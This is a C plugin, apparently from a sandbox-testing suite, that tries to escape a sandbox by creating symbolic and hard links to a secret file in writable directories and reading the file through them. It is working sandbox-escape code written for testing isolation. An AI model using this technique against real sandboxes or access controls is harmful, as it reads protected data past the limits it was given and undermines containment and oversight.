/*
 * fs_symlink_escape — creates symbolic links to the secret where it can (its
 * working directory, /tmp) and reads through them. If a sandbox allows creating
 * links in some writable area but checks access only on the link's own path, the
 * link is a door out.
 */
#include "attack.h"

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char secret[4096];
    char link_path[256];
    const char *dirs[] = {".", "/tmp", "/dev/shm"};
    int found = 0;
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        snprintf(link_path, sizeof link_path, "%s/sbx-atk-link-%d", dirs[i], (int)getpid());
        if (symlink(secret, link_path) != 0) {
            atk_failed(out, link_path, errno);
            continue;
        }
        atk_gained(out, "created symlink %s", link_path);
        found |= atk_cat(out, "secret via symlink", link_path);
        unlink(link_path);
    }
    /* A hard link keeps the secret's inode reachable even from an allowed path. */
    snprintf(link_path, sizeof link_path, "./sbx-atk-hardlink-%d", (int)getpid());
    if (link(secret, link_path) == 0) {
        atk_gained(out, "created hard link %s", link_path);
        found |= atk_cat(out, "secret via hard link", link_path);
        unlink(link_path);
    } else {
        atk_failed(out, "hard link", errno);
    }
    return found ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
